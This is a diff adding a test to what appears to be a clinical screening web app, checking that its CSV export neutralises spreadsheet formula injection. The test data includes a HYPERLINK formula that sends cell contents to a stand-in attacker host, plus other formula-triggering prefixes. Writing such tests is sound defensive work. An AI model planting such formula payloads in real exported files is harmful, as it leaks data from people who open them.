@@ -326,3 +326,25 @@ def test_the_backfill_migration_rebuilds_fired_flags_with_their_reviews(reviewer
     assert rebuilt == expected
     assert (overridden.pk, "STOP-PREGNANCY", "stop", "overridden") in rebuilt
     assert all(screening_id != plain.pk or kind == "" for screening_id, _, _, kind in rebuilt)
+
+
+def test_csv_export_writes_formula_like_text_as_text(client, reviewer, clinician):
+    """A name or MRN typed as `=HYPERLINK(…)` opens in a spreadsheet as the text that was typed,
+    not as a live formula (OWASP CSV injection): the cell starts with an apostrophe."""
+    screening = run(clinician)
+    patient = screening.patient
+    patient.family_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    patient.given_names = "@SUM(1+1)"
+    patient.mrn = "+44-7700"
+    patient.save(update_fields=["family_name", "given_names", "mrn"])
+    screening.intake.amendment_reason = "\t-2+3"
+    screening.intake.save(update_fields=["amendment_reason"])
+    client.force_login(reviewer)
+
+    body = b"".join(client.get(reverse("screening:export_csv")).streaming_content).decode()
+
+    row = next(csv.DictReader(io.StringIO(body)))
+    assert row["patient"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click"), @SUM(1+1)'
+    assert row["mrn"] == "'+44-7700"
+    assert row["amendment_reason"] == "'\t-2+3"
+    assert row["clinician"] == clinician.username  # ordinary text is left alone
